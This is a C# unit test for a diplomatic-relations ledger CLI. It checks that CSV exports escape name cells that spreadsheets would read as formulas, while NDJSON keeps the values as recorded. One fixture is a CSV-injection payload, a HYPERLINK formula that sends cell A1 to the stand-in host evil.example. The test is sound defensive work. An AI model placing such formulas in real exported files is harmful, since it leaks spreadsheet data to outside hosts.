using System.Text.Json;

namespace RelationsLedger.Cli.Tests;

/// <summary>
/// A panel's CSV is opened in spreadsheets as well as read by statistics tools, and its free-text cells (an
/// ambassador's name) are whatever a recorder typed. A cell that begins with <c>=</c>, <c>+</c>, <c>-</c> or <c>@</c>
/// is read by Excel and LibreOffice as a formula (CSV injection: <c>=HYPERLINK(…)</c> sends the sheet's cells to
/// another host when clicked), so such a cell is written with a leading apostrophe, which spreadsheets show as text and
/// which stays part of the text for pandas or R. Before, the name was written as typed. NDJSON keeps every value as
/// recorded.
/// </summary>
public sealed class PanelFormulaCellsTests : IDisposable
{
    private readonly TempFolder _folder = new();
    private string Store => _folder.File("ledger.db");

    private Task<CliResult> Ledger(params string[] args) => LedgerCli.RunAsync(["--store", Store, .. args]);

    // Each name goes to another receiving party, so each is a relationship (a row) of its own.
    private static readonly (string Receiving, string Person, string Cell)[] Names =
    [
        ("DE", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        ("IT", "+1+2", "'+1+2"),
        ("ES", "-2+3", "'-2+3"),
        ("PT", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("BE", "Jean-Marc d'Éon", "Jean-Marc d'Éon"),
        ("NL", "Anne = Marie", "Anne = Marie"),
    ];

    [Fact]
    public async Task A_name_a_spreadsheet_would_read_as_a_formula_is_written_as_text_in_CSV_and_as_recorded_in_NDJSON()
    {
        foreach (var (receiving, person, _) in Names)
        {
            var recorded = await Ledger("record", "accredit-ambassador", "--sending", "FR", "--receiving", receiving, "--person", person,
                "--on", "2020-01-01", "--source", "publisher=Journal officiel;title=Accreditation");
            Assert.True(recorded.ExitCode == 0, recorded.Error);
        }

        var csv = await Ledger("panel", "--from", "2020", "--to", "2020", "--aspects", "ambassadors", "-o", "-");
        var ndjson = await Ledger("panel", "--from", "2020", "--to", "2020", "--aspects", "ambassadors", "--format", "ndjson", "-o", "-");

        Assert.True(csv.ExitCode == 0, csv.Error);
        Assert.True(ndjson.ExitCode == 0, ndjson.Error);
        var lines = csv.Out.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var rows = ndjson.Out.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        foreach (var (receiving, person, cell) in Names)
        {
            var key = string.CompareOrdinal(receiving, "FR") < 0 ? $"{receiving}~FR" : $"FR~{receiving}";
            var column = string.CompareOrdinal(receiving, "FR") < 0 ? "ambassador_b_in_a" : "ambassador_a_in_b";
            Assert.Contains(lines, l => l.StartsWith($"{key},", StringComparison.Ordinal) && l.Contains($",{cell},certain", StringComparison.Ordinal));
            Assert.Equal(person, rows.Single(r => r.GetProperty("relationship").GetString() == key).GetProperty(column).GetString());
        }
    }

    public void Dispose() => _folder.Dispose();
}
